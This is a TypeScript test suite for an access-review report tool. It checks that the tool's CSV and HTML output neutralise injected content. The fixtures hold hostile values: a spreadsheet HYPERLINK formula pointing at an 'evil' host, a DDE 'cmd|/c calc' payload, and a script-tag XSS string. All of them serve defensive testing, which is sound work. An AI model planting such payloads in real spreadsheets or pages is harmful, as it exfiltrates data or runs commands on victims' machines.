import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'puppeteer-core';
import { reviewEvidence } from '../../src/domain/reviews/evidence';
import { entitlementKey } from '../../src/domain/reviews/entitlements';
import { renderReviewCsv, renderReviewHtml, renderReviewJson } from '../../src/report/reviews';
import { ACCOUNT, NOW } from '../fixtures/builders';
import { chooseBrowser, launchBrowser } from '../report/browser';
import { at, createDummyCampaign, createDummyPacket, group } from './builders';

/** A closed campaign whose person, group and reviewer text are hostile (formula and markup injection). */
function hostileEvidence() {
  const campaign = createDummyCampaign({ id: 'rev-report', status: 'closed', closedAt: at(14) });
  const hostileGroup = group('=HYPERLINK("http://evil/"&A1)');
  const packet = createDummyPacket(campaign, {
    person: { employeeId: 'E7', email: 'carol@example.com', fullName: '<script>alert(1)</script> Carol', role: '=2+5', department: '@SUM(1+1)*cmd|"/c calc"!A1' },
    escalatedAt: at(7),
    items: [
      { id: entitlementKey(group('developers')), entitlement: group('developers'), roleAllows: true, decision: { verdict: 'keep', by: 'slack:U0MONA', at: at(1), as: 'reviewer' } },
      {
        id: entitlementKey(hostileGroup),
        entitlement: hostileGroup,
        roleAllows: false,
        decision: { verdict: 'revoke', by: 'slack:U0MONA', at: at(2), as: 'reviewer' },
        change: { runId: 'run-1', at: at(2), actionIds: ['abc'], result: 'ok', verified: true },
      },
      { id: entitlementKey(group('ops')), entitlement: group('ops'), roleAllows: false, decision: { verdict: 'keep', by: 'system', at: at(14), as: 'undecided-default' } },
    ],
  });
  return reviewEvidence(campaign, [packet]);
}

const STORE = 'd-9067c0ffee';
const icGroup = { kind: 'ic-group', account: STORE, userName: 'carol@example.com', userId: 'u-carol', membershipId: 'm-1', groupId: 'g-eng', groupName: 'Engineers' } as const;
const icAssignment = {
  kind: 'ic-assignment',
  account: STORE,
  userName: 'carol@example.com',
  userId: 'u-carol',
  accountId: '222222222222',
  permissionSetArn: 'arn:aws:sso:::permissionSet/ssoins-1/ps-admin',
  permissionSetName: 'Admin',
} as const;

/** Carol keeps her Identity Center group and loses a direct Admin assignment, verified. */
function identityCenterEvidence() {
  const campaign = createDummyCampaign({ id: 'rev-ic' });
  const packet = createDummyPacket(campaign, {
    items: [
      { id: entitlementKey(icGroup), entitlement: icGroup, roleAllows: true, decision: { verdict: 'keep', by: 'slack:U0MONA', at: at(1), as: 'reviewer' } },
      {
        id: entitlementKey(icAssignment),
        entitlement: icAssignment,
        roleAllows: false,
        decision: { verdict: 'revoke', by: 'slack:U0MONA', at: at(1), as: 'reviewer' },
        change: { runId: 'run-ic', at: at(1), actionIds: ['ic1'], result: 'ok', verified: true },
      },
    ],
  });
  return reviewEvidence(campaign, [packet]);
}

describe('review evidence', () => {
  it('shows Identity Center items in JSON and CSV: what, where, the decision and the verified change', () => {
    const evidence = identityCenterEvidence();
    const json = JSON.parse(renderReviewJson(evidence)) as { rows: Record<string, unknown>[] };
    expect(json.rows.map((r) => [r['kind'], r['entitlement'], r['holder'], r['decision'], r['change'], r['verified']])).toEqual([
      ['ic-group', 'Identity Center group Engineers', `${STORE}/carol@example.com`, 'keep', undefined, undefined],
      ['ic-assignment', 'Identity Center permission set Admin in account 222222222222', `${STORE}/carol@example.com`, 'revoke', 'ok', true],
    ]);
    const csv = renderReviewCsv(evidence);
    expect(csv).toContain('Identity Center permission set Admin in account 222222222222');
    expect(csv).toContain('Identity Center group Engineers');
  });


  it('has one row per person x entitlement with reviewer, decision, time, change and verification', () => {
    const evidence = hostileEvidence();
    expect(evidence.summary).toEqual({ people: 1, items: 3, kept: 2, revoked: 1, undecided: 0, defaulted: 1, revokesVerified: 1, revokesOpen: 0, reminded: 0, escalated: 1 });
    expect(evidence.rows[1]).toMatchObject({
      email: 'carol@example.com',
      reviewer: 'manager mona@example.com (slack:U0MONA)',
      holder: `${ACCOUNT}/carol`,
      decision: 'revoke',
      decidedBy: 'slack:U0MONA',
      decidedAt: at(2).toISOString(),
      change: 'ok',
      verified: true,
    });
    expect(JSON.parse(renderReviewJson(evidence))).toMatchObject({ version: 1, kind: 'access-review', campaign: { id: 'rev-report', startedAt: NOW.toISOString() } });
  });

  it('writes CSV a spreadsheet cannot run: formula-like cells are defused and quoted', () => {
    const csv = renderReviewCsv(hostileEvidence());
    const cells = csv.split(/\r?\n/)[2] ?? '';
    expect(cells).not.toMatch(/,[=@+-]/);
    expect(cells).toContain(`,'=2+5,"'@SUM(1+1)*cmd|""/c calc""!A1",`);
  });
});

describe('the HTML access review report in headless Chromium', () => {
  let root: string;
  let browser: Browser | undefined;
  beforeAll(async () => {
    root = mkdtempSync(path.join(tmpdir(), 'warden-review-html-'));
    browser = await launchBrowser(chooseBrowser(path.join(root, 'profile')));
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('shows Identity Center items as rows', async () => {
    const file = path.join(root, 'review-ic.html');
    writeFileSync(file, renderReviewHtml(identityCenterEvidence()));
    const page = await (browser as Browser).newPage();
    try {
      await page.goto(pathToFileURL(file).href, { waitUntil: 'load', timeout: 60_000 });
      const rows = await page.$$eval('tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
      expect(rows.map((r) => [r[2], r[3], r[5]])).toEqual([
        [expect.stringContaining('Identity Center group Engineers'), 'keep', expect.any(String)],
        [expect.stringContaining('Identity Center permission set Admin in account 222222222222'), 'revoke', 'ok · verified'],
      ]);
    } finally {
      await page.close();
    }
  }, 60_000);

  it('renders the summary and every item, keeps hostile names as text, and prints to PDF', async () => {
    const file = path.join(root, 'review.html');
    writeFileSync(file, renderReviewHtml(hostileEvidence()));
    const page = await (browser as Browser).newPage();
    try {
      let alerted = false;
      page.on('dialog', () => {
        alerted = true;
      });
      await page.goto(pathToFileURL(file).href, { waitUntil: 'load', timeout: 60_000 });
      const summary = await page.$eval('#summary', (el) => el.textContent ?? '');
      const rows = await page.$$eval('tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
      const pdf = await page.pdf({ printBackground: true });

      expect(summary).toBe('1 people, 3 items: 2 kept, 1 revoked (1 verified, 0 open), 0 undecided, 1 given the default; 0 reminded, 1 escalated.');
      expect(rows.map((r) => r[3])).toEqual(['keep', 'revoke', 'keep']);
      expect(rows[0]?.[0]).toContain('<script>alert(1)</script> Carol');
      expect(rows[1]?.[5]).toBe('ok · verified');
      expect(rows[2]?.[4]).toContain('undecided-default');
      expect(await page.$$('script')).toHaveLength(0);
      expect(alerted).toBe(false);
      expect(Buffer.from(pdf).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    } finally {
      await page.close();
    }
  }, 60_000);
});
